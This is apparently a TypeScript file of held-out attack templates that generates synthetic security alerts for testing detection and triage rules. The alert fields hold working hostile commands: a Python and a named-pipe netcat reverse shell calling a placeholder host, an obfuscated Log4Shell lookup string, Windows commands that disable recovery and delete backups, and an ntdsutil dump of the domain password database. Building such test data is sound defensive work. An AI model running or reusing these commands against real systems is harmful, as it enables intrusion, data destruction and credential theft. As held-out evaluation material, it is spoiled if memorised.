import { falco, guardduty, ocsf, suricata, wazuh } from "../alerts.js";
import type { Template } from "../template.js";

/** Attacks that were written before the rules that they judge, and never tuned on: no rule may be changed for their sake. */
export const HELD_OUT_ATTACKS: readonly Template[] = [
  {
    name: "python-shell",
    story: "A shell over a socket, by another language.",
    truth: "attack",
    severity: "CRITICAL",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        v.one([5, 7]),
        ["80792", "Audit: Command.", ["audit", "audit_command"]],
        `a0="python3" a1="-c" a2="import socket,os,pty;s=socket.socket();s.connect(('${v.stranger}',${v.number(4000, 9999)}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"`,
        { mitre: ["T1059.006"] },
      ),
  },
  {
    name: "named-pipe-shell",
    story: "A shell through a named pipe, in a container.",
    truth: "attack",
    severity: "CRITICAL",
    source: "/falco",
    alert: (v) =>
      falco(
        v,
        "Notice",
        "Launch Suspicious Network Tool in Container",
        {
          "proc.name": "sh",
          "proc.cmdline": `sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc ${v.stranger} ${v.number(4000, 9999)} >/tmp/f`,
        },
        ["mitre_execution", "T1059"],
      ),
  },
  {
    name: "log4shell-in-disguise",
    story: "The look-up string, written so that simple filters miss it.",
    truth: "attack",
    severity: "HIGH",
    source: "/suricata",
    alert: (v) =>
      suricata(v, 2, ["ET WEB_SERVER Unusual header", "Web Application Attack"], {
        http: {
          url: `/login?u=${v.number(1, 99)}`,
          http_user_agent: `\${\${lower:j}ndi:\${lower:l}dap://${v.stranger}/x}`,
        },
      }),
  },
  {
    name: "recovery-switched-off",
    story: "Backups and recovery of Windows are switched off before the files go.",
    truth: "attack",
    severity: "CRITICAL",
    source: "/ocsf",
    alert: (v) =>
      ocsf(v, 3, "Suspicious command", "A system tool was used in an unusual way", {
        attacks: [{ technique: { uid: "T1490" } }],
        evidences: [
          {
            process: {
              name: "cmd.exe",
              cmd_line: v.one([
                "bcdedit /set {default} recoveryenabled no",
                "wbadmin delete catalog -quiet",
              ]),
            },
          },
        ],
      }),
  },
  {
    name: "command-server",
    story: "An instance talks to a known command server.",
    truth: "attack",
    severity: "HIGH",
    source: "/guardduty",
    alert: (v) =>
      guardduty(
        v,
        8,
        "Backdoor:EC2/C&CActivity.B",
        `Instance i-${v.number(1, 1e6)} calls its master`,
      ),
  },
  {
    name: "directory-copied",
    story: "The database with every password of the domain is copied.",
    truth: "attack",
    severity: "CRITICAL",
    source: "/wazuh",
    alert: (v) =>
      wazuh(
        v,
        v.one([6, 10]),
        ["92032", "Suspicious Windows cmd shell execution.", ["windows", "sysmon"]],
        `CommandLine: ntdsutil "ac i ntds" "ifm" "create full c:\\temp\\${v.user}" q q`,
        { mitre: ["T1003.003"] },
      ),
  },
];
